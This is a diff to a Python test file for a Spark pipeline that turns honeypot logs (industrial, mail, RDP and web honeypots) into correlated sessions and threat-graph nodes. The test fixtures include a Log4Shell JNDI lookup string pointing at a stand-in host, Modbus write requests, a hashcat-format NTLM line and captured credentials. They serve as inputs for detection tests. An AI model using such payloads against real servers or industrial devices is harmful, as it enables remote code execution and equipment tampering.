@@ -94,8 +94,8 @@ def test_nodes_and_edges_of_sessions(spark):
     kinds = {}
     for r in nodes.collect():
         kinds.setdefault(r.kind, []).append(r)
-    assert {k: len(v) for k, v in kinds.items()} == {"address": 2, "indicator": 2, "sensor": 1, "country": 1, "network": 1, "process": 1, "file": 1, "file-indicator": 1, "url": 1, "domain": 1, "vulnerability": 1, "technique": 7, "ssh-key": 1, "fingerprint": 2}
-    assert max(r.score for r in kinds["address"]) == 100 and kinds["domain"][0].name == "bad.example"
+    assert {k: len(v) for k, v in kinds.items()} == {"address": 2, "indicator": 2, "sensor": 1, "country": 1, "network": 1, "process": 1, "file": 1, "file-indicator": 1, "url": 2, "domain": 2, "vulnerability": 1, "technique": 7, "ssh-key": 1, "fingerprint": 2}
+    assert max(r.score for r in kinds["address"]) == 100 and {r.name for r in kinds["domain"]} == {"bad.example", "evil.example"}
     made = edges.collect()
     assert without_dangling(edges, nodes).count() == len(made) == len({r.id for r in made})
     assert {r.kind for r in made} == {"based-on", "located-at", "belongs-to", "indicates", "related-to"}
@@ -110,3 +110,41 @@ def test_payloads_of_every_top_level_string(spark):
     ]
     rows = jndi_events(events(spark, docs)).collect()
     assert {x.host for r in rows for x in r.jndi} == {f"{n}.example" for n in ["agent", "host", "referer", "sni", "x", *(f"many{i}" for i in range(50))]}
+
+
+def session_of(spark, docs):
+    return correlate(events(spark, docs)).first()
+
+
+def test_industrial_sessions(spark):
+    s = {"id": "c1", "data_type": "modbus"}
+    docs = [doc("ConPot", t, **s, request=x) for t, x in enumerate(["000700000006010300000002", "000700000006010300000002", "000700000006010600010002", None])]
+    r = session_of(spark, docs)
+    assert r.requests == ["000700000006010300000002", "000700000006010600010002"] and r.ics.tier == "write" and r.ics.write and r.ics.valid_protocols == ["modbus"]
+    many = [doc("ConPot", t, id="c2", data_type="http", request=f"GET /{t}") for t in range(30)]
+    r = session_of(spark, many)
+    assert r.requests == [f"GET /{t}" for t in range(20)] and r.ics.industrial_tier is None and not r.ics.write
+    assert session_of(spark, [doc("Cowrie", session="x")]).ics is None
+    r = session_of(spark, [doc("ConPot", id="c3", data_type="kamstrup_management_protocol", request="!SC 1")])
+    assert r.protocols == ["kamstrup-management"] and r.ics.tier == "write"
+
+
+def test_mail_and_desktop_sessions(spark):
+    docs = [doc("Mailoney", 0, session_id="m", commands=["ehlo x", "mail from:<a>"], data="12345", auth_user="u", auth_pass="p"), doc("Mailoney", 1, session_id="m", commands="RCPT to", data="é", auth_user="u", auth_pass="p"), doc("Mailoney", 2, session_id="m", commands=5, auth_user="u")]
+    r = session_of(spark, docs)
+    assert r.requests == ["EHLO", "MAIL", "RCPT"] and r.commands == [] and r.mail_bytes == 6 and [tuple(c) for c in r.credentials] == [("u", "p")]
+    blob = bytes(44) + b"\x09\x00\x04\x00" + "ab".encode("utf-16le") + bytes(4)
+    docs = [doc("RDPHoneypot", 0, session="d", username=" eve ", nt_response=blob.hex(), domain="", derived_domain="CORP", message="username: 'eve', hashcat: 'eve::CORP:11:22:33'."), doc("RDPHoneypot", 1, session="d", nt_response="zz")]
+    r = session_of(spark, docs)
+    assert [(x.target, x.username, x.domain, x.line, x.method) for x in r.ntlm] == [("ab", "eve", "CORP", "eve::CORP:11:22:33", "unknown"), (None, None, None, None, "unknown")]
+
+
+def test_web_sessions_and_first_fingerprints(spark):
+    r = session_of(spark, [doc("H0neytr4p", http_host="a.example:8443", request_uri="x?y", dest_port=8443, body="${jndi:ldap://c.example/z}")])
+    assert r.request_urls == ["https://a.example:8443/x?y"] and r.request_hosts == ["a.example"] and [x.host for x in r.jndi] == ["c.example"] and r.urls == []
+    assert session_of(spark, [doc("H0neytr4p", http_host="1.2.3.4", request_uri="/")]).request_hosts == []
+    assert session_of(spark, [doc("H0neytr4p", request_uri="http://b.example/")]).request_urls == ["http://b.example/"]
+    r = session_of(spark, [doc("Galah", method="POST", body="user=a&pass=b&pwd=c"), ])
+    assert [tuple(c) for c in r.credentials] == [("a", "b"), ("a", "c")]
+    r = session_of(spark, [doc("Fatt", 0), doc("Fatt", 1, fatt_tls={"ja3": "one", "ja3s": "s1"}), doc("Fatt", 2, fatt_tls={"ja3": "two"})])
+    assert (r.ja3, r.ja3s) == ("one", "s1")
